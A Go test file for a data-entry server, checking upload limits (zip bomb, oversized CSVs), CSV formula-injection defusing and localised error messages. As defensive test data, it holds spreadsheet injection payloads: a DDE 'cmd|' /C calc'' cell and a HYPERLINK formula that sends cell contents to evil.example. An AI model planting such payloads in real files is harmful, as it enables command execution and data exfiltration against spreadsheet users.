package server_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"lindu/internal/access"
	"lindu/internal/domain"
	"lindu/internal/kla"
	"lindu/internal/server"
	"lindu/internal/spreadsheet/spreadsheettest"
	"lindu/internal/store"
	"lindu/internal/store/storetest"
)

// klaOperatorWorld is a world with the shipped catalogue and "op-kes", an
// OPD operator of the health agency (dinkes) in Bengkayang.
func klaOperatorWorld(t *testing.T, d store.Dialect) *world {
	w := newWorld(t, d, server.Options{RootRegion: "61.07"})
	if _, err := kla.EnsureShipped(bg, w.st); err != nil {
		t.Fatal(err)
	}
	sys := access.System("test")
	op, err := w.st.CreateUser(bg, sys, domain.NewUser{Username: "op-kes", Role: domain.RoleOPDOperator, RegionCode: "61.07", Password: pw})
	if err != nil {
		t.Fatal(err)
	}
	w.users["op-kes"] = op
	if err := kla.SetUserAgency(bg, w.st, sys, op.ID, "dinkes"); err != nil {
		t.Fatal(err)
	}
	return w
}

// stored counts what an upload could leave behind: values and evidence
// files.
func stored(t *testing.T, w *world) (values, files int) {
	t.Helper()
	vs, err := kla.ListValues(bg, w.st, access.System("test"), kla.ValueFilter{Regime: kla.Regime2011, Year: 2025})
	if err != nil {
		t.Fatal(err)
	}
	n, err := kla.CountFiles(bg, w.st)
	if err != nil {
		t.Fatal(err)
	}
	return len(vs), n
}

// Issue 9 item 3: an operator's hostile upload is refused quickly with a
// clear message and stores nothing: a zip bomb (300 MiB of sheet in about
// 1 MB), a sheet that lies about its size, a CSV of 60,000 rows, a row of
// 200 columns. A refused entry form keeps none of its evidence files.
func TestKLAUploadBounded(t *testing.T) {
	t.Parallel()
	bomb := spreadsheettest.Bomb(300 << 20)
	storetest.Each(t, func(t *testing.T, d store.Dialect) {
		w := klaOperatorWorld(t, d)
		b := w.loggedIn("op-kes")
		b.get("/kla/isi?region=61.07&year=2025")
		fields := map[string]string{"csrf": b.csrf, "region": "61.07", "year": "2025"}
		v0, f0 := stored(t, w)
		for _, c := range []struct {
			name, file string
			data       []byte
			code       int
			text       string
		}{
			{"zip bomb", "templat.xlsx", bomb, 413, "lebih dari 40 MiB"},
			{"lying size", "templat.xlsx", spreadsheettest.Lying(20000, 500), 422, "XLSX"},
			{"rows", "templat.csv", []byte("indicator,region_code,year,value\n" + strings.Repeat("11,61.07,2025,90\n", 60000)), 413, "lebih dari 20000 baris"},
			{"columns", "templat.csv", []byte("indicator,region_code,year,value\n11,61.07,2025,90" + strings.Repeat(",x", 200) + "\n"), 413, "lebih dari 100 kolom"},
		} {
			code, page := b.postMultipart("/kla/unggah", fields, "file", c.file, c.data)
			if code != c.code || !strings.Contains(page, c.text) {
				t.Errorf("%s: %d, want %d with %q", c.name, code, c.code, c.text)
			}
			if v, f := stored(t, w); v != v0 || f != f0 {
				t.Errorf("%s stored %d values, %d files", c.name, v-v0, f-f0)
			}
		}
		// The same limits guard the catalogue import of an administrator.
		a := w.loggedIn("reg-admin")
		a.get("/kla/katalog")
		code, page := a.postMultipart("/kla/katalog/impor", map[string]string{"csrf": a.csrf, "name": "x", "from_year": "2027"}, "file", "k.xlsx", bomb)
		if code != 413 || !strings.Contains(page, "lebih dari 40 MiB") {
			t.Errorf("catalogue bomb: %d", code)
		}

		// The entry form: a value that is not a number on one row, or a
		// value the store refuses, stores no evidence file of any row.
		evidence := []byte("%PDF-1.4 bukti")
		for _, form := range []map[string]string{
			{"value_11": "91", "value_9": "banyak"},
			{"value_11": "150"}, // a percentage over 100
			{"value_11": ""},    // evidence without a value
		} {
			form["csrf"], form["region"], form["year"] = b.csrf, "61.07", "2025"
			code, _ := b.postMultipart("/kla/isi", form, "file_11", "bukti.pdf", evidence)
			if code != 422 {
				t.Errorf("refused form %v: %d", form, code)
			}
			if v, f := stored(t, w); v != v0 || f != f0 {
				t.Errorf("refused form %v stored %d values, %d files", form, v-v0, f-f0)
			}
		}
		if code, _ := b.postMultipart("/kla/isi", map[string]string{"csrf": b.csrf, "region": "61.07", "year": "2025", "value_11": "91"},
			"file_11", "bukti.pdf", evidence); code != 303 {
			t.Fatalf("good form: %d", code)
		}
		vs, _ := kla.ListValues(bg, w.st, access.System("test"), kla.ValueFilter{Regime: kla.Regime2011, Year: 2025})
		if v, f := stored(t, w); v != v0+1 || f != f0+1 || len(vs) == 0 || vs[0].FileID == "" {
			t.Errorf("good form stored %d values, %d files: %+v", v-v0, f-f0, vs)
		}
	})
}

// Issue 9 item 9: every CSV lindu serves (the bulk-entry template and the
// dashboard export) defuses cells starting with = + - @ tab or CR, and a
// downloaded template uploaded again imports the same text.
func TestKLACSVExportsDefused(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, d store.Dialect) {
		w := klaOperatorWorld(t, d)
		sys := access.System("test")
		inds, err := kla.Indicators(bg, w.st, kla.Regime2011)
		if err != nil {
			t.Fatal(err)
		}
		for _, ind := range inds {
			if ind.ID == "11" {
				ind.Name = "-2+3+cmd|' /C calc'!A0"
				ind.Source = "@SUM(1+1)*cmd|' /C calc'!A0"
				if err := kla.UpdateIndicator(bg, w.st, sys, ind); err != nil {
					t.Fatal(err)
				}
			}
		}
		note := "=HYPERLINK(\"http://evil.example/?x=\"&A1)"
		if code, body := w.api("PUT", "/api/v1/kla/values", w.token("op-kes"),
			map[string]any{"indicator": "11", "region_code": "61.07", "year": 2025, "value": 92, "note": note}); code != 200 {
			t.Fatalf("put value: %d %v", code, body)
		}
		check := func(who, path string) []byte {
			code, body, hdr := w.loggedIn(who).get(path)
			if code != 200 || !strings.HasPrefix(hdr.Get("Content-Type"), "text/csv") {
				t.Fatalf("%s: %d %s", path, code, hdr.Get("Content-Type"))
			}
			recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\xef\xbb\xbf"))).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			hostile := 0
			for _, rec := range recs {
				for _, c := range rec {
					if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
						t.Errorf("%s: cell %q is not defused", path, c)
					}
					if strings.Contains(c, "cmd|") || strings.Contains(c, "HYPERLINK") {
						hostile++
					}
				}
			}
			if hostile == 0 {
				t.Errorf("%s: the hostile cells are missing", path)
			}
			return []byte(body)
		}
		tpl := check("op-kes", "/kla/templat.csv?region=61.07&year=2025")
		check("viewer", "/kla/ekspor.csv?region=61.07&year=2025")

		// The downloaded template, uploaded again, keeps the note as typed.
		b := w.loggedIn("op-kes")
		b.get("/kla/isi?region=61.07&year=2025")
		if code, page := b.postMultipart("/kla/unggah", map[string]string{"csrf": b.csrf, "region": "61.07", "year": "2025"}, "file", "t.csv", tpl); code != 303 {
			t.Fatalf("template upload: %d %s", code, page[:min(len(page), 300)])
		}
		vs, err := kla.ListValues(bg, w.st, sys, kla.ValueFilter{Regime: kla.Regime2011, RegionCode: "61.07", Year: 2025})
		if err != nil || len(vs) != 1 || vs[0].Note != note || bytes.Contains([]byte(vs[0].Note), []byte("'=")) {
			t.Errorf("note after the round trip: %+v %v", vs, err)
		}
	})
}

// Issue 10: the reasons a sheet's rows are refused, the entry form's
// errors and the API's field errors are message keys rendered in the
// reader's language: an Indonesian-UI and an English-UI operator uploading
// the same bad sheet each read their own language, and nothing else.
func TestKLARowErrorsInUserLanguage(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, d store.Dialect) {
		w := klaOperatorWorld(t, d)
		b := w.loggedIn("op-kes")
		b.get("/kla/isi?region=61.07&year=2025")
		sheet := []byte("indicator,region_code,year,value\n" +
			"11,61.07,2025,abc\n" + // 2: not a number
			"17,61.07,2025,80\n" + // 3: another agency's indicator
			"11,13.01,2025,80\n" + // 4: outside the operator's region
			"9,61.07,2025,140\n") // 5: a percentage over 100
		upload := func() string {
			t.Helper()
			code, page := b.postMultipart("/kla/unggah", map[string]string{"csrf": b.csrf, "region": "61.07", "year": "2025"}, "file", "nilai.csv", sheet)
			if code != 422 {
				t.Fatalf("bad sheet: %d", code)
			}
			return page
		}
		form := func() string {
			t.Helper()
			code, page := b.postMultipart("/kla/isi", map[string]string{"csrf": b.csrf, "region": "61.07", "year": "2025",
				"value_11": "banyak", "value_9": "140"}, "file_11", "bukti.pdf", []byte("%PDF-1.4"))
			if code != 422 {
				t.Fatalf("bad form: %d", code)
			}
			return page
		}
		indonesian := []string{"Nilai &#34;abc&#34; bukan angka.", "Indikator 17 milik perangkat daerah disdik, bukan milik Anda (dinkes).",
			"Wilayah 13.01 di luar wilayah Anda.", "Persentase harus antara 0 dan 100."}
		english := []string{"Value &#34;abc&#34; is not a number.", "Indicator 17 belongs to agency disdik, not yours (dinkes).",
			"Region 13.01 is outside your area.", "A percentage must be between 0 and 100."}
		check := func(lang, page string, want, not []string) {
			t.Helper()
			for _, s := range want {
				if !strings.Contains(page, s) {
					t.Errorf("%s page lacks %q", lang, s)
				}
			}
			for _, s := range not {
				if strings.Contains(page, s) {
					t.Errorf("%s page shows %q", lang, s)
				}
			}
			if strings.Contains(page, "kla.row.") || strings.Contains(page, "kla.value.") || strings.Contains(page, "field.") {
				t.Errorf("%s page shows a message key", lang)
			}
		}
		check("Indonesian", upload(), indonesian, english)
		check("Indonesian form", form(), []string{"Bukan angka.", "Persentase harus antara 0 dan 100."}, []string{"Not a number.", "A percentage"})

		if code, _, _ := b.post("/lang", url.Values{"csrf": {b.csrf}, "lang": {"en"}, "next": {"/kla/isi"}}); code != 303 {
			t.Fatalf("switch to English: %d", code)
		}
		b.get("/kla/isi?region=61.07&year=2025")
		check("English", upload(), english, indonesian)
		check("English form", form(), []string{"Not a number.", "A percentage must be between 0 and 100."}, []string{"Bukan angka.", "Persentase harus"})

		// The API answers in the language the client asks for, with the key.
		for _, c := range []struct{ lang, want string }{{"", "belongs to agency disdik"}, {"id", "milik perangkat daerah disdik"}} {
			body, _ := json.Marshal(map[string]any{"indicator": "17", "region_code": "61.07", "year": 2025, "value": 80})
			req, _ := http.NewRequest("PUT", w.ts.URL+"/api/v1/kla/values", bytes.NewReader(body))
			req.Header.Set("Authorization", "Bearer "+w.token("op-kes"))
			req.Header.Set("Content-Type", "application/json")
			if c.lang != "" {
				req.Header.Set("Accept-Language", c.lang)
			}
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			var out struct {
				Error struct {
					Key    string            `json:"key"`
					Fields map[string]string `json:"fields"`
				} `json:"error"`
			}
			err = json.NewDecoder(resp.Body).Decode(&out)
			resp.Body.Close()
			if err != nil || resp.StatusCode != 422 || out.Error.Key != "kla.err.values_rejected" || !strings.Contains(out.Error.Fields["values[0]"], c.want) {
				t.Errorf("API in %q: %d %+v %v", c.lang, resp.StatusCode, out, err)
			}
		}
	})
}
